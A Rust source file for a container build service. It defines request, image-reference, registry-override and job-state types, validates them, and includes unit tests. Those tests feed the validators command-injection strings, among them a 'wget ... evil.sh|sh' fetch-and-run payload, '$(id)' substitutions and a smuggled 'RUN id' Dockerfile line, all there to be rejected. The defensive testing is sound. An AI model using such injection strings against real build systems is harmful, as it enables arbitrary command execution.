//! Build request and job types
//!
//! Types that flow between the HTTP collaborator, the build orchestrator and
//! the cluster gateway. Everything here is plain data: parsing and
//! validation happen on construction so that the engine only ever sees
//! well-formed requests.

use std::collections::HashMap;
use std::fmt;
use std::str::FromStr;

use base64::engine::general_purpose::STANDARD;
use base64::Engine as _;
use chrono::{DateTime, Utc};
use serde::{Deserialize, Serialize};

use crate::errors::ValidationError;
use crate::manifest::{is_dns_label, is_image_name, is_registry_host};

/// Environment key carrying a per-caller registry host override
pub const REGISTRY_HOST_ENV: &str = "REGISTRY_HOST";

/// Environment key carrying a per-caller registry credential override
pub const REGISTRY_SECRET_ENV: &str = "REGISTRY_SECRET";

/// Runtime family of the base image
///
/// Selects the dependency manifest file name the build descriptor copies in.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum RuntimeKind {
    Python,
    Nodejs,
    Php,
    Java,
    Go,
    Ruby,
    Dotnet,
}

impl RuntimeKind {
    /// Every supported kind
    pub const ALL: [RuntimeKind; 7] = [
        RuntimeKind::Python,
        RuntimeKind::Nodejs,
        RuntimeKind::Php,
        RuntimeKind::Java,
        RuntimeKind::Go,
        RuntimeKind::Ruby,
        RuntimeKind::Dotnet,
    ];

    /// Wire name of the kind
    pub fn as_str(&self) -> &'static str {
        match self {
            RuntimeKind::Python => "python",
            RuntimeKind::Nodejs => "nodejs",
            RuntimeKind::Php => "php",
            RuntimeKind::Java => "java",
            RuntimeKind::Go => "go",
            RuntimeKind::Ruby => "ruby",
            RuntimeKind::Dotnet => "dotnet",
        }
    }

    /// Conventional dependency manifest name for this runtime
    pub fn dependency_file_name(&self) -> &'static str {
        match self {
            RuntimeKind::Python => "requirements.txt",
            RuntimeKind::Nodejs => "package.json",
            RuntimeKind::Php => "composer.json",
            RuntimeKind::Java => "pom.xml",
            RuntimeKind::Go => "go.mod",
            RuntimeKind::Ruby => "Gemfile",
            RuntimeKind::Dotnet => "project.json",
        }
    }
}

impl fmt::Display for RuntimeKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

impl FromStr for RuntimeKind {
    type Err = ValidationError;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        RuntimeKind::ALL
            .into_iter()
            .find(|kind| kind.as_str() == s)
            .ok_or_else(|| ValidationError::UnsupportedKind(s.to_string()))
    }
}

/// Image reference in the `<namespace>:<name>` form
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct TargetImageRef {
    pub namespace: String,
    pub name: String,
}

impl FromStr for TargetImageRef {
    type Err = ValidationError;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        let invalid = || ValidationError::InvalidTarget(s.to_string());
        let (namespace, name) = s.split_once(':').ok_or_else(invalid)?;
        let target = Self {
            namespace: namespace.to_string(),
            name: name.to_string(),
        };
        target.validate()?;
        Ok(target)
    }
}

impl TargetImageRef {
    /// Namespace must be a DNS label and name an image repository with an
    /// optional tag
    pub fn validate(&self) -> Result<(), ValidationError> {
        if is_dns_label(&self.namespace) && is_image_name(&self.name) {
            Ok(())
        } else {
            Err(ValidationError::InvalidTarget(self.to_string()))
        }
    }
}

impl fmt::Display for TargetImageRef {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}:{}", self.namespace, self.name)
    }
}

/// Build request as it arrives on the wire: `{source, target, kind, file?}`
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct BuildPayload {
    #[serde(default)]
    pub source: Option<String>,
    #[serde(default)]
    pub target: Option<String>,
    #[serde(default)]
    pub kind: Option<String>,
    /// Base64-encoded dependency manifest
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub file: Option<String>,
}

/// A validated build request
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct BuildRequest {
    /// Base runtime image, e.g. `python:3.11`
    pub source_image: String,
    pub runtime_kind: RuntimeKind,
    /// Decoded dependency manifest, when one was supplied
    pub dependency_content: Option<String>,
    pub target: TargetImageRef,
}

impl BuildRequest {
    /// Create a request without a dependency manifest
    pub fn new(
        source_image: impl Into<String>,
        runtime_kind: RuntimeKind,
        target: TargetImageRef,
    ) -> Self {
        Self {
            source_image: source_image.into(),
            runtime_kind,
            dependency_content: None,
            target,
        }
    }

    /// Attach a base64-encoded dependency manifest
    pub fn with_dependency_base64(mut self, encoded: &str) -> Result<Self, ValidationError> {
        self.dependency_content = Some(decode_dependency(encoded)?);
        Ok(self)
    }

    /// Re-check fields that end up in the descriptor or the job command
    ///
    /// Requests built field by field skip the checks `TryFrom<BuildPayload>`
    /// applies.
    pub fn validate(&self) -> Result<(), ValidationError> {
        check_source_image(&self.source_image)?;
        self.target.validate()
    }

    /// Check that the target namespace matches the authenticated caller
    pub fn ensure_owned_by(&self, caller: &str) -> Result<(), ValidationError> {
        if self.target.namespace != caller {
            return Err(ValidationError::TargetNamespaceMismatch {
                caller: caller.to_string(),
                namespace: self.target.namespace.clone(),
            });
        }
        Ok(())
    }
}

impl TryFrom<BuildPayload> for BuildRequest {
    type Error = ValidationError;

    fn try_from(payload: BuildPayload) -> Result<Self, Self::Error> {
        let source = required(payload.source, "source")?;
        check_source_image(&source)?;
        let target = required(payload.target, "target")?;
        let kind = required(payload.kind, "kind")?;

        let runtime_kind = kind.parse::<RuntimeKind>()?;
        let target = target.parse::<TargetImageRef>()?;

        let request = BuildRequest::new(source, runtime_kind, target);
        match payload.file.as_deref() {
            Some(encoded) => request.with_dependency_base64(encoded),
            None => Ok(request),
        }
    }
}

fn required(value: Option<String>, field: &'static str) -> Result<String, ValidationError> {
    value
        .filter(|v| !v.trim().is_empty())
        .ok_or(ValidationError::MissingField(field))
}

/// The base image lands verbatim on the descriptor's `FROM` line
fn check_source_image(source: &str) -> Result<(), ValidationError> {
    if source.chars().any(|c| c.is_whitespace() || c.is_control()) {
        return Err(ValidationError::InvalidSource(source.to_string()));
    }
    Ok(())
}

fn decode_dependency(encoded: &str) -> Result<String, ValidationError> {
    let bytes = STANDARD
        .decode(encoded.trim())
        .map_err(|e| ValidationError::InvalidDependencyBlob(e.to_string()))?;

    String::from_utf8(bytes)
        .map_err(|_| ValidationError::InvalidDependencyBlob("content is not UTF-8 text".into()))
}

/// Per-caller registry overrides taken from the caller's environment
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct RegistryOverrides {
    pub host: Option<String>,
    /// Either an existing secret name or `user:pass`
    pub secret: Option<String>,
}

impl RegistryOverrides {
    /// Extract overrides from a caller environment map
    ///
    /// Blank values are treated as absent.
    pub fn from_env(env: &HashMap<String, String>) -> Self {
        let lookup = |key: &str| {
            env.get(key)
                .map(|v| v.trim().to_string())
                .filter(|v| !v.is_empty())
        };

        Self {
            host: lookup(REGISTRY_HOST_ENV),
            secret: lookup(REGISTRY_SECRET_ENV),
        }
    }

    /// Reject a host override that is not a plain `host[:port]`
    pub fn validate(&self) -> Result<(), ValidationError> {
        match self.host.as_deref() {
            Some(host) if !is_registry_host(host) => {
                Err(ValidationError::InvalidRegistryHost(host.to_string()))
            }
            _ => Ok(()),
        }
    }
}

/// A single condition reported on a job
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct JobCondition {
    #[serde(rename = "type")]
    pub type_: String,
    pub status: String,
}

impl JobCondition {
    pub fn new(type_: impl Into<String>, status: impl Into<String>) -> Self {
        Self {
            type_: type_.into(),
            status: status.into(),
        }
    }

    fn is(&self, type_: &str) -> bool {
        self.type_ == type_ && self.status == "True"
    }
}

/// Coarse lifecycle phase of a job
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum JobPhase {
    Running,
    Complete,
    Failed,
}

/// Observed state of a build job
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct JobRecord {
    pub name: String,
    pub creation_time: Option<DateTime<Utc>>,
    pub completion_time: Option<DateTime<Utc>>,
    #[serde(default)]
    pub conditions: Vec<JobCondition>,
}

impl JobRecord {
    /// A job is completed iff it reports `Complete=True`
    pub fn is_completed(&self) -> bool {
        self.conditions.iter().any(|c| c.is("Complete"))
    }

    pub fn is_failed(&self) -> bool {
        self.conditions.iter().any(|c| c.is("Failed"))
    }

    pub fn phase(&self) -> JobPhase {
        if self.is_completed() {
            JobPhase::Complete
        } else if self.is_failed() {
            JobPhase::Failed
        } else {
            JobPhase::Running
        }
    }
}

/// Handle returned once a build job has been accepted by the cluster
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct JobHandle {
    pub name: String,
    pub session_id: String,
    /// Fully qualified image the job will push
    pub image: String,
    pub uid: Option<String>,
}

#[cfg(test)]
mod tests {
    use super::*;

    fn payload(kind: &str) -> BuildPayload {
        BuildPayload {
            source: Some("python:3.11".to_string()),
            target: Some("alice:myfunc".to_string()),
            kind: Some(kind.to_string()),
            file: None,
        }
    }

    #[test]
    fn test_dependency_file_names() {
        assert_eq!(RuntimeKind::Python.dependency_file_name(), "requirements.txt");
        assert_eq!(RuntimeKind::Nodejs.dependency_file_name(), "package.json");
        assert_eq!(RuntimeKind::Php.dependency_file_name(), "composer.json");
        assert_eq!(RuntimeKind::Java.dependency_file_name(), "pom.xml");
        assert_eq!(RuntimeKind::Go.dependency_file_name(), "go.mod");
        assert_eq!(RuntimeKind::Ruby.dependency_file_name(), "Gemfile");
        assert_eq!(RuntimeKind::Dotnet.dependency_file_name(), "project.json");
    }

    #[test]
    fn test_unsupported_kind() {
        let err = "cobol".parse::<RuntimeKind>().unwrap_err();
        assert_eq!(err, ValidationError::UnsupportedKind("cobol".to_string()));
    }

    #[test]
    fn test_payload_missing_fields() {
        let mut p = payload("python");
        p.source = None;
        assert_eq!(
            BuildRequest::try_from(p).unwrap_err(),
            ValidationError::MissingField("source")
        );

        let mut p = payload("python");
        p.target = Some("  ".to_string());
        assert_eq!(
            BuildRequest::try_from(p).unwrap_err(),
            ValidationError::MissingField("target")
        );

        let mut p = payload("python");
        p.kind = None;
        assert_eq!(
            BuildRequest::try_from(p).unwrap_err(),
            ValidationError::MissingField("kind")
        );
    }

    #[test]
    fn test_payload_with_dependency() {
        let mut p = payload("python");
        p.file = Some(STANDARD.encode("flask==3.0\n"));
        let request = BuildRequest::try_from(p).unwrap();
        assert_eq!(request.dependency_content.as_deref(), Some("flask==3.0\n"));
        assert_eq!(request.target.to_string(), "alice:myfunc");
    }

    #[test]
    fn test_payload_bad_base64() {
        let mut p = payload("python");
        p.file = Some("!!not base64!!".to_string());
        assert!(matches!(
            BuildRequest::try_from(p),
            Err(ValidationError::InvalidDependencyBlob(_))
        ));
    }

    #[test]
    fn test_payload_non_utf8_dependency() {
        let mut p = payload("python");
        p.file = Some(STANDARD.encode([0xff, 0xfe, 0x00]));
        assert!(matches!(
            BuildRequest::try_from(p),
            Err(ValidationError::InvalidDependencyBlob(_))
        ));
    }

    #[test]
    fn test_target_parsing() {
        let target: TargetImageRef = "alice:myfunc:v2".parse().unwrap();
        assert_eq!(target.namespace, "alice");
        assert_eq!(target.name, "myfunc:v2");

        assert!("alice".parse::<TargetImageRef>().is_err());
        assert!(":myfunc".parse::<TargetImageRef>().is_err());
        assert!("alice:".parse::<TargetImageRef>().is_err());
        assert!("alice: myfunc".parse::<TargetImageRef>().is_err());
        assert!("Alice:myfunc".parse::<TargetImageRef>().is_err());
    }

    #[test]
    fn test_target_rejects_shell_syntax() {
        for raw in [
            "alice:x;id",
            "alice:x;wget${IFS}evil.sh|sh;#",
            "alice:x|sh",
            "alice:$(id)",
            "alice:`id`",
            "alice;id:x",
            "alice:x&&id",
        ] {
            assert_eq!(
                raw.parse::<TargetImageRef>(),
                Err(ValidationError::InvalidTarget(raw.to_string())),
                "{raw} accepted"
            );
        }
    }

    #[test]
    fn test_source_rejects_control_characters() {
        for source in ["python:3.11\nRUN id", "python:3.11\tx", "python 3.11", "python\u{7f}"] {
            let mut p = payload("python");
            p.source = Some(source.to_string());
            assert_eq!(
                BuildRequest::try_from(p).unwrap_err(),
                ValidationError::InvalidSource(source.to_string())
            );
        }

        let mut p = payload("python");
        p.source = Some("ghcr.io/apache/python:3.11@sha256:abc".to_string());
        assert!(BuildRequest::try_from(p).is_ok());
    }

    #[test]
    fn test_ensure_owned_by() {
        let request = BuildRequest::try_from(payload("python")).unwrap();
        assert!(request.ensure_owned_by("alice").is_ok());
        assert!(matches!(
            request.ensure_owned_by("bob"),
            Err(ValidationError::TargetNamespaceMismatch { .. })
        ));
    }

    #[test]
    fn test_overrides_from_env() {
        let mut env = HashMap::new();
        env.insert(REGISTRY_HOST_ENV.to_string(), "registry.example.com".to_string());
        env.insert(REGISTRY_SECRET_ENV.to_string(), "   ".to_string());

        let overrides = RegistryOverrides::from_env(&env);
        assert_eq!(overrides.host.as_deref(), Some("registry.example.com"));
        assert_eq!(overrides.secret, None);
        assert!(overrides.validate().is_ok());
    }

    #[test]
    fn test_host_override_validation() {
        for host in ["evil;id", "a.com/x", "$(id)", "host:port"] {
            let overrides = RegistryOverrides {
                host: Some(host.to_string()),
                secret: None,
            };
            assert_eq!(
                overrides.validate(),
                Err(ValidationError::InvalidRegistryHost(host.to_string()))
            );
        }
        assert!(RegistryOverrides::default().validate().is_ok());
    }

    #[test]
    fn test_job_phase() {
        let mut job = JobRecord {
            name: "build-x".to_string(),
            creation_time: None,
            completion_time: None,
            conditions: vec![],
        };
        assert_eq!(job.phase(), JobPhase::Running);

        job.conditions.push(JobCondition::new("Complete", "False"));
        assert!(!job.is_completed());

        job.conditions.push(JobCondition::new("Failed", "True"));
        assert_eq!(job.phase(), JobPhase::Failed);

        job.conditions = vec![JobCondition::new("Complete", "True")];
        assert_eq!(job.phase(), JobPhase::Complete);
    }
}
